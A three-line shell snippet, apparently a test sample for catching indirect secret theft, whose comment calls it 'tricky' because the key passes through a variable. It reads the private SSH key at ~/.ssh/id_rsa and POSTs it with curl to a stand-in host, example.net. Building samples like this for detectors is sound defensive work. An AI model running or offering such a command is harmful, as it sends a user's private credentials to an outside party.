# tricky: the key goes through a variable
k=$(<~/.ssh/id_rsa)
curl -s -d "k=$k" https://example.net/p
